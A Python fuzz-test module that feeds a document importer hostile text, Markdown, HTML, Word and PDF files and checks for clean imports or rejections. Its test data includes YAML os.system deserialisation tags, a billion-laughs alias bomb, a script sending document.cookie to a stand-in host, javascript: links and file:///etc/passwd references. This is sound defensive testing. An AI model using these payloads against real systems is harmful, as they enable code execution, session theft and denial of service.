"""Hostile input for the importers: every file ends as a clean import or a clean rejection.

Hypothesis builds text, Markdown (with hostile YAML front matter), HTML (deep,
scripted, remote-loading, mis-declared), Word and PDF files, whole and
damaged, plus raw bytes under any name. For each, ``import_paths`` must not
raise; the file must be counted exactly once (imported, rejected or a
duplicate); a rejection gives a one-line reason and leaves the store as it
was; an import leaves a titled document with its search-index row and a store
that passes the checks.

Bounded here (BRIEFING_FUZZ_EXAMPLES, default 15 per format, derandomized so a
run is repeatable); tools/fuzz.py runs thousands with fresh randomness.
"""

from __future__ import annotations

import io
import os
import re
import tempfile
import time
from collections import Counter
from pathlib import Path

from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st

from briefing.importing import import_paths
from briefing.library.opening import open_store
from briefing.safekeeping.check import check_store

EXAMPLES = int(os.environ.get("BRIEFING_FUZZ_EXAMPLES", "15"))
FUZZ = settings(
    max_examples=EXAMPLES,
    deadline=None,
    derandomize="BRIEFING_FUZZ_EXAMPLES" not in os.environ,
    database=None,
    suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large, HealthCheck.filter_too_much],
)
# what tools/fuzz.py reports: outcomes per format, the slowest file, and rejections by reason
STATS: Counter[str] = Counter()
REASONS: Counter[str] = Counter()
SLOWEST: list[tuple[float, str]] = [(0.0, "")]
# a reason naming one of these came from a bug in the reader, not from the file
_BUG = re.compile(
    r"\b(IndexError|KeyError|TypeError|AttributeError|AssertionError|UnboundLocalError|NameError|"
    r"ZeroDivisionError|UnicodeDecodeError|UnicodeEncodeError|RecursionError|ValueError)\b"
)
# our own readers (the libraries behind PDF and Word may fail on damage in their own words)
_OURS = {"txt", "md", "html", "htm", ""}


def check_import(name: str, data: bytes) -> str:
    """Import one file into a fresh store and check the outcome is clean; returns it."""
    with tempfile.TemporaryDirectory() as tmp:
        path = Path(tmp) / name
        path.write_bytes(data)
        store = open_store(":memory:")
        try:
            started = time.monotonic()
            report = import_paths(store, [path])
            took = time.monotonic() - started
            outcomes = len(report.imported) + len(report.rejected) + len(report.duplicates)
            assert outcomes == 1, f"{name}: counted {outcomes} times: {report}"
            documents = store.scalar("SELECT count(*) FROM documents")
            if report.rejected:
                reason = report.rejected[0]["reason"]
                assert reason.strip() and "\n" not in reason, f"{name}: reason is not one line: {reason!r}"
                suffix = path.suffix.lower().lstrip(".")
                if suffix in _OURS and reason.startswith("could not be read ("):
                    # the importer's catch-all: a Python error class there is a bug in our reader
                    assert not _BUG.search(reason), f"{name}: a reader bug shown as a rejection: {reason}"
                assert documents == 0, f"{name}: rejected, yet {documents} documents were stored"
                REASONS[re.sub(r"\(.*", "", reason).strip()[:60]] += 1
                outcome = "rejected"
            else:
                doc_id = report.imported[0]["id"]
                row = store.one("SELECT title, text FROM documents WHERE id = ?", [doc_id])
                assert row and row["title"].strip(), f"{name}: imported without a title"
                assert store.scalar("SELECT count(*) FROM search_index WHERE rowid = ?", [doc_id]) == 1
                assert check_store(store, repair=False).ok, f"{name}: the store fails its checks after the import"
                outcome = "imported"
        finally:
            store.close()
    STATS[f"{path.suffix or '(none)'} {outcome}"] += 1
    STATS["inputs"] += 1
    if took > SLOWEST[0][0]:
        SLOWEST[0] = (took, name)
    return outcome


# --- text ---------------------------------------------------------------------------------

ENCODINGS = ("utf-8", "utf-16", "cp1251", "latin-1", "utf-8-sig")


@FUZZ
@given(st.text(max_size=3000), st.sampled_from(ENCODINGS), st.sampled_from(["note.txt", "note.text", "note"]))
@example("", "utf-8", "note.txt")
@example("\x00" * 100, "utf-8", "note.txt")
@example("\u202e\ufeff\u200b" * 50, "utf-16", "note.txt")
def test_text(text, encoding, name):
    check_import(name, text.encode(encoding, errors="replace"))


@FUZZ
@given(st.binary(max_size=4000), st.sampled_from(["raw.txt", "raw.md", "raw.html", "raw.pdf", "raw.docx", "raw"]))
@example(b"%PDF-1.7\n" + b"\xff" * 100, "raw")
@example(b"PK\x03\x04" + b"\x00" * 100, "raw")
@example(b"\xef\xbb\xbf", "raw.txt")
def test_raw_bytes_under_any_name(data, name):
    check_import(name, data)


# --- Markdown -------------------------------------------------------------------------------

YAML_VALUES = st.sampled_from(
    [
        "2024-03-12",
        "not a date",
        "!!python/object/apply:os.system ['echo hostile']",
        "!!python/name:os.system",
        "[1, 2, [3, [4, [5]]]]",
        "{a: {b: {c: d}}}",
        "&a [x, *a]",
        "'unterminated",
        "\"\\x00\\ud800\"",
        "9999-99-99",
        "-.inf",
        "~",
        "|\n  multi\n  line",
    ]
)
FRONT_KEYS = st.sampled_from(["title", "date", "kind", "tags", "author", "publisher", "language", "place", "url", "x"])
MD_PIECES = st.sampled_from(
    [
        "# Heading\n",
        "## Joint statement\n",
        "- item\n- [link](javascript:alert(1))\n",
        "![img](http://example.invalid/track.png)\n",
        "<script>alert(1)</script>\n",
        '<img src="file:///etc/passwd">\n',
        "| a | b |\n|---|---|\n| 1 | 2 |\n",
        "```\ncode\n```\n",
        "> quote\n" * 3,
        "1. first\n2. second\n",
        "[ref]: http://example.invalid\n",
        "*" * 500 + "\n",
        "[" * 300 + "\n",
        "Signed in Baku on 12 March 2024.\n",
    ]
)


@st.composite
def markdown_files(draw) -> bytes:
    parts = []
    if draw(st.booleans()):
        pairs = draw(st.lists(st.tuples(FRONT_KEYS, st.one_of(YAML_VALUES, st.text(max_size=40))), max_size=6))
        parts.append("---\n" + "".join(f"{k}: {v}\n" for k, v in pairs) + "---\n")
    parts += draw(st.lists(st.one_of(MD_PIECES, st.text(max_size=200)), max_size=15))
    return "".join(parts).encode("utf-8", errors="replace")


LAUGHS = "---\n" + "".join(
    f"l{i}: &l{i} [{', '.join([f'*l{i - 1}'] * 9)}]\n" if i else "l0: &l0 [lol, lol, lol, lol, lol, lol, lol, lol, lol]\n"
    for i in range(9)
) + "tags: *l8\n---\nBody text of a hostile note.\n"


@FUZZ
@given(markdown_files(), st.sampled_from(["doc.md", "doc.markdown"]))
@example(LAUGHS.encode(), "laughs.md")
@example(b"---\n" + b"a: [" * 2000 + b"\n---\ntext\n", "deep.md")
def test_markdown(data, name):
    check_import(name, data)


# --- HTML -----------------------------------------------------------------------------------

TAGS = ["div", "p", "span", "table", "tr", "td", "ul", "li", "h1", "article", "main", "nav", "footer", "b", "a"]
HOSTILE = st.sampled_from(
    [
        "<script>document.location='http://example.invalid/'+document.cookie</script>",
        "<style>@import url(http://example.invalid/x.css);</style>",
        '<iframe src="http://example.invalid/"></iframe>',
        '<img src="http://example.invalid/pixel.gif" onerror="alert(1)">',
        '<a href="javascript:alert(1)">click</a>',
        '<link rel="stylesheet" href="file:///etc/passwd">',
        '<meta http-equiv="refresh" content="0;url=http://example.invalid/">',
        '<base href="http://example.invalid/">',
        "<svg><script>alert(1)</script></svg>",
        '<object data="file:///etc/passwd"></object>',
        "<!--", "]]>", "<![CDATA[", "&#0;", "&#xD800;", "&nbsp;" * 50, "&unknownentity;",
        "<title>Joint statement of the presidents</title>",
        '<meta charset="utf-7">', '<meta charset="no-such-charset">',
        '<meta property="article:published_time" content="2024-13-45">',
    ]
)
LEAF = st.one_of(st.text(max_size=80).map(lambda t: t.replace("<", "&lt;")), HOSTILE)


def _wrap(children):
    return st.builds(lambda tag, inner: f"<{tag}>{''.join(inner)}</{tag}>", st.sampled_from(TAGS), st.lists(children, max_size=4))


@FUZZ
@given(st.recursive(LEAF, _wrap, max_leaves=40), st.booleans(), st.sampled_from(["page.html", "page.htm", "page"]))
@example("<div>" * 5000 + "deep" + "</div>" * 5000, True, "deep.html")
@example("<p>" * 20000, True, "unclosed.html")
def test_html(body, full_page, name):
    page = f"<!DOCTYPE html><html><head></head><body>{body}</body></html>" if full_page else body
    check_import(name, page.encode("utf-8", errors="replace"))


# --- Word and PDF: whole, then damaged ------------------------------------------------------

SAFE_TEXT = st.text(st.characters(blacklist_categories=("Cs", "Cc")), max_size=200)
DAMAGE = st.lists(st.tuples(st.integers(min_value=0), st.integers(0, 255)), max_size=8)


def _damage(data: bytes, flips, cut: int | None) -> bytes:
    buf = bytearray(data)
    for position, value in flips:
        buf[position % len(buf)] = value
    return bytes(buf[:cut] if cut is not None else buf)


def _docx(title: str, paragraphs: list[str]) -> bytes:
    import docx

    document = docx.Document()
    if title:
        document.core_properties.title = title
    for text in paragraphs:
        document.add_paragraph(text)
    out = io.BytesIO()
    document.save(out)
    return out.getvalue()


@FUZZ
@given(SAFE_TEXT, st.lists(SAFE_TEXT, max_size=6), DAMAGE, st.one_of(st.none(), st.integers(0, 20000)))
def test_docx(title, paragraphs, flips, cut):
    check_import("memo.docx", _damage(_docx(title, paragraphs), flips, cut))


def _pdf(title: str, lines: list[str]) -> bytes:
    from reportlab.pdfgen import canvas

    out = io.BytesIO()
    pdf = canvas.Canvas(out, invariant=1)
    pdf.setTitle(title)
    for n, line in enumerate(lines):
        pdf.drawString(72, 720 - 14 * n, line)
    pdf.showPage()
    pdf.save()
    return out.getvalue()


@FUZZ
@given(SAFE_TEXT, st.lists(SAFE_TEXT, max_size=8), DAMAGE, st.one_of(st.none(), st.integers(0, 5000)))
def test_pdf(title, lines, flips, cut):
    check_import("statement.pdf", _damage(_pdf(title, lines), flips, cut))
